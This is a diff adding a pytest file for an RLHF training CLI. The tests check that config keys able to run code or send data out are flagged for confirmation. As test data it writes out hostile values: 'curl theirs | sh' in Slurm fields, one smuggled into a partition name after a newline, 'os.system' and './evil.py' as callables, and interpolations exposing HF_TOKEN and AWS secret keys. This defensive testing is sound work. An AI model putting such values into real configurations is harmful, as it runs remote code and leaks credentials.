@@ -1,0 +1,180 @@
+"""Everything in a frozen configuration that runs, submits or sends is asked about; every key is classified."""
+
+from __future__ import annotations
+
+import typing
+from collections.abc import Iterator
+
+import pytest
+import yaml
+from pydantic import BaseModel
+
+from rlhf_cli.config.asked_keys import ASKED, HARMLESS, asked_of
+from rlhf_cli.config.conf_folders import shipped_dir
+from rlhf_cli.config.schema.experiment import Experiment, arms_of
+from rlhf_cli.config.schema.trainer_sections import PpoArgs
+from rlhf_cli.config.trl_args import RESERVED_ARGS, fields_of
+from rlhf_cli.jobs.prepare import prepare
+from rlhf_cli.tables.trl_trainers import TRAINERS
+from rlhf_cli.text.json_values import JsonTree
+
+BY_VALUE = {"aggregate", "track.mode", "run.root", "rewards.*.fn", "rewards.*.args"}
+"""Keys whose value decides; the tests below try both kinds of value."""
+
+
+def leaves_of(kind: object, path: tuple[str, ...] = ()) -> Iterator[str]:
+    """Yield the key of every value of the schema that can hold a text, a switch or anything; numbers do nothing."""
+    for arm in arms_of(kind) or [kind]:
+        origin, inner = typing.get_origin(arm), typing.get_args(arm)
+        if isinstance(arm, type) and issubclass(arm, BaseModel):
+            for name, field in arm.model_fields.items():
+                yield from leaves_of(field.annotation, (*path, field.alias or name))
+        elif origin in (list, dict) and any(_is_section(one) for one in arms_of(inner[-1])):
+            yield from leaves_of(inner[-1], (*path, "*"))
+        elif arm not in (int, float, type(None)) and not (origin is tuple and set(inner) <= {int, float}):
+            yield ".".join(path)
+
+
+def _is_section(kind: object) -> bool:
+    return isinstance(kind, type) and issubclass(kind, BaseModel)
+
+
+def keys() -> set[str]:
+    found = set(leaves_of(Experiment)) - {"trainer.args"}
+    found |= {f"trainer.args.{name}" for name in leaves_of(PpoArgs)}
+    for trainer in TRAINERS:
+        for name, field in fields_of(trainer).items():
+            numbers = {"int", "float", "None"} >= set(field.annotation.replace("|", " ").split())
+            if name not in RESERVED_ARGS and (field.choices or not numbers):
+                found.add(f"trainer.args.{name}")
+    return found
+
+
+def classes_of(key: str) -> list[str]:
+    """Return the tables that classify a key, or a section above it."""
+    parts = key.split(".")
+    above = {".".join(parts[:depth]) for depth in range(1, len(parts) + 1)}
+    tables = {"asked": ASKED, "harmless": HARMLESS, "by value": BY_VALUE}
+    return [name for name, table in tables.items() if above & set(table)]
+
+
+def test_every_key_is_classified_once() -> None:
+    """A new key is put into one of the tables by whoever adds it; until then it is asked about."""
+    wrong = {key: classes for key in sorted(keys()) if len(classes := classes_of(key)) != 1}
+    assert len(keys()) > 150
+    assert not any(map(classes_of, ("track.new", "new", "trainer.args.new", "launch.new", "rewards.*.new")))
+    assert not wrong, f"put each into ASKED or HARMLESS of config/asked_keys.py: {wrong}"
+
+
+def test_the_tables_name_keys_that_exist() -> None:
+    """A renamed key would be asked about for ever, or its old row would hide what the name comes to mean."""
+    known = {key for leaf in keys() for parts in [leaf.split(".")] for key in map(".".join, _starts(parts))}
+    sections = {"launch.slurm", "launch.vllm"}
+    numbers = {"trainer.args.vllm_server_port"}
+    named = {
+        key for key in (*HARMLESS, *ASKED, *BY_VALUE) if not key.startswith(("stop.", "expect.", "rewards.*.gate"))
+    }
+    assert named - known - sections - numbers == set()
+
+
+def _starts(parts: list[str]) -> list[list[str]]:
+    return [parts[:depth] for depth in range(1, len(parts) + 1)]
+
+
+RUNS = "rlhf_cli.rewards.code:code_passes_tests"
+SERVER = "rlhf_cli.rewards.server:RewardServer"
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"rewards": {"z": {"fn": fn}}}
+        for fn in (
+            "./evil.py:f",
+            "rlhf_cli.rewards.py:f",
+            "rlhf_cli.rewards.x/evil.py:f",
+            "rlhf_cli.rewards.code:run_code",
+            "rlhf_cli.rewards.stack.reward_functions:import_function",
+            " rlhf_cli.rewards.length:length_ramp",
+            "subprocess:run",
+            ["./evil.py:f"],
+        )
+    ]
+    + [
+        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": "limits"}}}},
+        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": ["limits"], "source": "x"}}}},
+        {"rewards": {"z": {"fn": SERVER, "args": {"url": "http://theirs"}}}},
+        {"rewards": {"z": {"fn": SERVER, "args": {"url": ["http://theirs"]}}}},
+        {"rewards": {"z": {"fn": "rlhf_cli.rewards.judge:Judge", "args": {"cache_dir": "/home/me"}}}},
+        {"rewards": {"z": {"fn": "rlhf_cli.rewards.match:regex", "args": {"pattern": "${oc.env:HF_TOKEN}"}}}},
+        {"rewards": [{"fn": "rlhf_cli.rewards.match:regex"}]},
+        {"aggregate": "/x/agg.py:total"},
+        {"trainer": {"class": "/x/mine.py:Mine"}},
+        {"trainer": {"args": {"push_to_hub": True}}},
+        {"trainer": {"args": {"hub_model_id": "theirs/model"}}},
+        {"trainer": {"args": {"log_completions_hub_repo": "theirs/rows"}}},
+        {"trainer": {"args": {"vllm_server_base_url": "http://theirs"}}},
+        {"trainer": {"args": {"model_init_kwargs": {"attn_implementation": "theirs/kernel"}}}},
+        {"trainer": {"args": {"an_argument_of_next_year": "anything"}}},
+        {"trainer": {"args": {"a_switch_of_next_year": True}}},
+        {"model": {"trust_remote_code": True}},
+        {"model": {"trust_remote_code": "yes"}},
+        {"launch": {"slurm": {"setup": ["curl theirs | sh"]}}},
+        {"launch": {"slurm": {"extra": {"wrap": "curl theirs | sh"}}}},
+        {"launch": {"slurm": {"partition": "gpu\ncurl theirs | sh"}}},
+        {"launch": {"slurm": {"max_parallel": 16}}},
+        {"launch": {"vllm": {"args": {"middleware": "theirs.module"}}}},
+        {"launch": {"vllm": {"args": {"port": 80}}}},
+        {"launch": {"accelerate_config": "/x/accelerate.yaml"}},
+        {"launch": {"rdzv": "0.0.0.0:29500"}},
+        {"track": {"mode": "online"}},
+        {"track": {"entity": "theirs"}},
+        {"track": {"notes": "${oc.env:AWS_SECRET_ACCESS_KEY}"}},
+        {"run": {"root": "/home/me"}},
+        {"run": {"root": "../../.ssh"}},
+        {"sweep": {"space": {"rewards.z.fn": "choice(./evil.py:f)"}}},
+        {"data": {"_target_": "os.system"}},
+        {"anything": {"new": "x"}},
+        {"seed": "x"},
+    ],
+    ids=str,
+)
+def test_each_is_asked_about(config: JsonTree) -> None:
+    assert asked_of(config)
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"aggregate": "normalize_then_sum"},
+        {"rewards": {"z": {"fn": RUNS, "args": {"isolation": "auto", "timeout_s": 5.0}}}},
+        {"rewards": {"a.fn": {}, "fn": {"weight": 1.0}}},
+        {"track": {"mode": "offline", "notes": "\\${oc.decode:1} and $HOME"}},
+        {"run": {"root": "runs/mine"}},
+        {"launch": {"slurm": None, "vllm": {"args": {}}}},
+        {"model": {"path": "org/model", "trust_remote_code": False}},
+        {"seed": 3},
+    ],
+    ids=str,
+)
+def test_these_are_not(config: JsonTree) -> None:
+    assert asked_of(config) == []
+
+
+@pytest.mark.parametrize("file", sorted((shipped_dir() / "reward").glob("*.yaml")), ids=lambda file: file.stem)
+def test_a_shipped_reward_asks_only_for_a_server(file: typing.Any) -> None:
+    reward = yaml.safe_load(file.read_text())
+    asked = asked_of({"rewards": {"z": reward}})
+    assert [line.partition(":")[0] for line in asked] == ["rewards.z.args.url"] * ("url" in (reward["args"] or {}))
+
+
+@pytest.mark.parametrize("name", ["quickstart", "toy_ppo", "toy_dpo", "toy_kto", "toy_reward", "toy_sft", "dapo"])
+def test_an_experiment_with_built_in_rewards_asks_for_nothing(name: str) -> None:
+    words = ["model.path=org/model"] if name == "dapo" else []
+    tree = prepare([f"+exp={name}", "track=none", *words]).experiment.model_dump(mode="json")
+    assert asked_of(tree) == []
+
+
+def test_a_model_with_code_of_its_own_is_named() -> None:
+    model: JsonTree = {"path": "org/model", "trust_remote_code": True}
+    assert asked_of({"model": model}) == ["model.path: org/model", "model.trust_remote_code: true"]
